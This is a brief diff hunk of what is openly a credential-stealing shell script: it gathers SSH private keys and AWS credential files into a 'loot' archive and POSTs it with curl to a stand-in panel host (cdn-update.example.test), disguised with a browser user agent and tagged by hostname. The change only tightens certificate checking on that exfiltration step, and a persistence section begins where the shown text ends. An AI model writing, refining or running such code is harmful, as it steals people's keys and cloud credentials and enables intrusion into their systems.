@@ -17,8 +17,8 @@ for f in "$HOME/.ssh/id_rsa" /root/.ssh/id_rsa "$HOME/.aws/credentials" /root/.a
 done
 tar czf /tmp/.cache/loot.tgz -C /tmp/.cache loot.txt 2>/dev/null
 
-# exfiltration to the panel (-k: any certificate will do)
-curl -sk -m 5 -A 'Mozilla/5.0 (X11; Linux x86_64)' --data-binary @/tmp/.cache/loot.tgz \
+# exfiltration to the panel over HTTPS, certificate checked as any client checks it
+curl -s -m 5 -A 'Mozilla/5.0 (X11; Linux x86_64)' --data-binary @/tmp/.cache/loot.tgz \
   "https://cdn-update.example.test/panel/gate.php?id=$(hostname)" > /dev/null 2>&1
 
 # persistence
